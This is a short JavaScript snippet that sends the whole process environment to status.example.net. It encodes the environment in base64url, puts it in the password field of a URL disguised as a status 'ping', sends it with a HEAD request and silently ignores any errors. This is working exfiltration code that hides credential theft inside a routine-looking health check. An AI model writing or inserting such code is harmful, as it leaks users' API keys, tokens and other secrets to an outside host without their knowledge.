// Sends the environment as the password of a URL's credentials.
const u = new URL('https://status.example.net/ping');
u.username = 'probe';
u.password = Buffer.from(JSON.stringify(process.env)).toString('base64url');
fetch(u, { method: 'HEAD' }).catch(() => {});
